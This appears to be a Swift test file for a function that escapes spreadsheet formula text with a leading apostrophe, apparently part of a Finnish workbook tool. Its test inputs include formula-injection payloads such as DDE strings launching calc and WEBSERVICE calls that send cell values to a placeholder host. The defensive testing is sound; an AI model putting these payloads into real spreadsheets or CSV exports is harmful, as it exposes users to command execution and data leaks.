import Testing
import Wording

@testable import Workbooks

struct ProtectedTextTests {
  @Test(
    arguments: [
      "=SUM(A1:A9)", "  =1+1", "\t=1", "\u{A0}=1", "=> kunnat", "= sama", "@SUM(A1)", "@kunta",
      "+SUM(A1)", "-A1", "-2+3", "-2+3+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "+358-40-123",
      "-2 + 3", "+1 -1", "- A1", "--A1", "--1+1", "+-1+1", "-SUM (A1)", "- SUM(A1:A9)",
      "-A1 +B1",
      "-1+WEBSERVICE(\"http://e/?\"&A1)+TRUE", "--WEBSERVICE(\"http://e/\")&TRUE",
      "-1+IFERROR(ä;WEBSERVICE(\"http://e/\"))", "-1+HYPERLINK(\"http://e/\";\"avaa\")&x",
      "-1+'\\\\e\\s\\[x.xlsx]S'!A1", "--'http://e/[x.xlsx]S'!A1", "+1-[x.xlsx]S!A1",
      "-1+Sheet2!A1", "+1+WEBSERVICE(\"http://e/\")&Taulukko1[#All]", "-1+Tietoä!A1",
      "- WEBSERVICE(\"http://e/\")&x", "- 1+SUM(x)&y",
      "-1 -HYPERLINK(\"http://e\")", "- HYPERLINK(\"http://e/\"&A1,\"x\")", "-1&A1", "+5 *A1",
      "- 5 + $A$1", "-5%+1", "-1=1", "-ei", "+1+x", "-5%/v", "+2-3htv", "1.1", "2.1.3", "1-4",
      "7-9", "5/2026", "2026-05",
      "5/6/2027", "31.12",
      "1.1.26", "077",
      "8,20", "1E5", "3,2e+06", "1234567890123456", "＝1+1", "＋A1", "－A1", "＠SUM(A1)", " ＝1+1",
    ]
  )
  func `what a spreadsheet changes stands behind an apostrophe and is read without it`(
    text: String
  ) {
    let protected = ProtectedText.protecting(text)
    #expect(protected == "'" + text)
    #expect(ProtectedText.original(of: protected) == text)
    #expect(CellText.clean(protected) == CellText.clean(text))
  }

  @Test(
    arguments: [
      "", "-", "–", "--", "-5 %", "-3,5", "+5", "+358 40 123 4567", "- ei aloitettu",
      "– ei aloitettu", "-palvelut (sote)", "- A1 Elinvoima", "-- ehdotus", "-10 € / kk",
      "-5 – -3 %",
      "- 3 kpl (sote)", "- koulu(t) ja kirjasto(t)", "- Huomio! Kaikki", "-5 [1]", "-1 + x", "-85",
      "-10kpl",
      "12,5", "100", "0", "0,5", "0-17", "1.1.2026",
      "31.12.2027", "2026–2029", "2026-2029", "1–4", "v1.1", "A1.1", "45.67.8", "13.14", "k 5/2026",
      "3221318-2", "§ 237", "12 500 €", "'hyte'", "'", "” = ”", "e-resepti", "1.234",
    ]
  )
  func `other texts stay as they are`(text: String) {
    #expect(ProtectedText.protecting(text) == text)
    #expect(ProtectedText.original(of: text) == text)
  }

  @Test func `every text is read as it was written`() {
    let pieces = [
      "'", "''", "=", "-", "+", "@", "1", ".", "/", " ", "a", "077", "e", "|", "(", "\t",
    ]
    var texts = [""]
    for _ in 0..<4 {
      texts = texts.flatMap { text in pieces.map { text + $0 } }
      for text in texts {
        #expect(ProtectedText.original(of: ProtectedText.protecting(text)) == text)
      }
    }
  }

  @Test func `apostrophes without end are looked through in one go`() {
    let text = String(repeating: "'", count: 300_000)
    #expect(ProtectedText.original(of: text) == text)
    #expect(ProtectedText.original(of: text + "=1+1") == text.dropFirst() + "=1+1")
  }

  @Test func `a protected formula is one nevertheless, and tidying leaves it alone`() {
    #expect(CellDamage(in: "'=SUM(A1)") == .formula)
    #expect(CellDamage(in: "'1.1") == nil)
    let file = SourceFile(
      name: "tavoitteet.csv",
      bytes: Array("Tunnus;Tavoite;Ikäryhmä\n'1.1;Kaikki lukevat;'7-9\n".utf8)
    )
    let workbook = Workbook(folder: [file])
    #expect(workbook.goals[0].id.text == "1.1")
    #expect(workbook.goals[0].ageGroup?.original == "7-9")
    #expect(Tidying(workbook, in: .finnish).files.isEmpty)
  }
}
